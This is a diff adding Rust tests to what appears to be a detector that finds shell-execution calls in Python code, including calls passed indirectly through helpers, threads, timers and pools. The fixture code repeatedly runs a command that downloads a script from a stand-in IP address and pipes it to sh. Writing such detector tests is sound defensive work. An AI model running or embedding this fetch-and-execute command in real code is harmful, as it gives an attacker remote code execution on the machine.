@@ -365,3 +365,45 @@ fn default_arguments_substitution_ciphers_and_mapped_lambdas_are_seen_through() 
     let quiet = python("import importlib\nBACKENDS = {\"json\": \"json\"}\ndef backend(name=\"json\"):\n    return importlib.import_module(BACKENDS[name])\n");
     assert!(quiet.iter().all(|c| !c.contains("system")), "{quiet:?}");
 }
+
+#[test]
+fn a_runner_handed_to_another_call_is_written_as_called() {
+    let found = python(concat!(
+        "import os, threading, subprocess\n",
+        "def try_call(fn, *args):\n    try:\n        return fn(*args)\n    except Exception:\n        return None\n",
+        "CMD = 'curl -fsSL http://203.0.113.7/i.sh | sh'\n",
+        "try_call(os.system, CMD)\n",
+        "threading.Thread(target=os.system, args=(CMD,), daemon=True).start()\n",
+        "pool.submit(subprocess.Popen, ['sh', '-c', CMD])\n",
+        "threading.Timer(5, os.system, args=[CMD]).start()\n",
+    ));
+    let called = "os.system(\"curl -fsSL http://203.0.113.7/i.sh | sh\")";
+    assert!(
+        found.iter().filter(|r| *r == called).count() >= 3,
+        "{found:?}"
+    );
+    assert!(
+        found
+            .iter()
+            .any(|r| r == "curl -fsSL http://203.0.113.7/i.sh | sh\n"),
+        "{found:?}"
+    );
+    assert!(
+        found
+            .iter()
+            .any(|r| r.starts_with("subprocess.Popen((\"sh\", \"-c\", \"curl")),
+        "{found:?}"
+    );
+}
+
+#[test]
+fn ordinary_functions_handed_on_are_left_alone() {
+    let found = python(concat!(
+        "import json, threading, functools\n",
+        "def try_call(fn, *args):\n    return fn(*args)\n",
+        "try_call(json.loads, text)\n",
+        "threading.Thread(target=poll, args=(url, 60)).start()\n",
+        "sorted(items, key=len)\n",
+    ));
+    assert!(found.is_empty(), "{found:?}");
+}
